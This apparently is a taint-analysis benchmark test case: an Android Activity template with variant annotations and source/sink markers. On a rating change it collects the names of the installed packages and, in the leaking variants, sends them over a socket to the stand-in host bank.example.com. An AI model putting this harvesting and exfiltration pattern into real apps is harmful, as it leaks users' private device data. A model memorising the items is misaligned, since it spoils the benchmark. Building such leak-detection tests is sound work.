package bench.flow.super_field;

import android.app.Activity;
import android.content.pm.PackageInfo;
import android.os.Bundle;
import android.widget.RatingBar;
import java.io.IOException;
import java.io.PrintStream;
import java.lang.reflect.Field;
import java.net.Socket;

public final class Main extends Activity implements RatingBar.OnRatingBarChangeListener {
    private static final String NAME = "details"; //: @leak,private_twin
    private static final String NAME = "draft"; //: @clean

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        RatingBar income = new RatingBar(this);
        income.setOnRatingBarChangeListener(this);
        setContentView(income);
    }

    @Override
    public void onRatingChanged(RatingBar bar, float stars, boolean byUser) {
        Form form = new Form();
        try {
            Class<?> owner = Form.class.getSuperclass(); //: @leak,clean
            Class<?> owner = Form.class; //: @private_twin
            Field field = owner.getDeclaredField(NAME);
            field.setAccessible(true);
            field.set(form, programs());
        } catch (ReflectiveOperationException changed) {
            setTitle("Please update");
        }
        setTitle(form.signature().isEmpty() ? "Empty" : "Filled");
        String summary = form.summary();
        new Thread(() -> send(summary)).start();
    }

    private String programs() {
        StringBuilder names = new StringBuilder();
        for (PackageInfo program : getPackageManager().getInstalledPackages(0)) { //: #source
            names.append(program.packageName).append(',');
        }
        return names.toString();
    }

    private static void send(String summary) {
        try (Socket bank = new Socket("bank.example.com", 5001);
                PrintStream out = new PrintStream(bank.getOutputStream())) {
            out.print(summary); //: #sink
        } catch (IOException closed) {
            Thread.yield();
        }
    }
}
